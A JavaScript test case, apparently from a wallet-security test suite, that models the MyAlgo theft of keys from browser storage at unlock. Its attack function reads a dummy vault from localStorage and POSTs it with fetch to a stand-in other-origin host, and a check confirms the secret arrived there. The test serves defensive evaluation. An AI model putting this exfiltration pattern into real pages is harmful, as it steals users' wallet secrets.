// B23: what the page keeps in its storage is sent away at the moment it is decrypted.

export default {
  id: 'B23',
  title: 'keys taken from storage at unlock',
  source: 'MyAlgo, January 2023',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'a stolen secret names nobody who is paid: the guard reads recipients, not secrets',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    localStorage.setItem('wallet', JSON.stringify({ vault: 'test vault that opens nothing' }));
    const { vault } = JSON.parse(localStorage.getItem('wallet'));
    await fetch(`${a.other}/api/echo`, { method: 'POST', body: vault, mode: 'no-cors' }).catch(() => {});
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },
  stolen: ({ http, a }) => http.some(({ url, body }) => url.startsWith(a.other) && body.includes('opens nothing')),
  arrived: ({ result }) => result === 200,
};
